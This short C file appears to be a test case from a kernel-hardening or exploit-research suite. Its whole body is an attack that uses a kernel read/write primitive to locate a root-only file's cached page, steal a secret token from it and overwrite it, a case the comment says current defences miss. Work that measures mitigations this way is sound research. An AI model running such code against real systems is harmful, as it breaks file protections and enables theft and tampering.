// SPDX-License-Identifier: GPL-2.0-only
/*
 * Not stopped: write to a root-only file where the kernel caches it. Contents of
 * files are ordinary data, which the kernel writes everywhere.
 */
#include <string.h>

#include "common.h"

int main(int argc, char **argv)
{
	u64 phys = vuln_file_phys(argc > 1 ? argv[1] : NULL);
	char *mine = map_pages(NULL, page_size());
	u64 words[TOKEN_LEN / sizeof(u64)], cached;
	size_t i;

	*mine = 1;
	cached = vuln_mm(mine).linear - phys_of(mine) + phys;
	for (i = 0; i < TOKEN_LEN / sizeof(u64); i++)
		words[i] = vuln_read(cached + i * sizeof(u64));
	if (!is_token((char *)words))
		die("the secret is not there");
	report_loot((char *)words);
	memcpy(words, ALTERED, strlen(ALTERED));
	for (i = 0; i < TOKEN_LEN / sizeof(u64); i++)
		vuln_write(cached + i * sizeof(u64), words[i]);
	return 0;
}
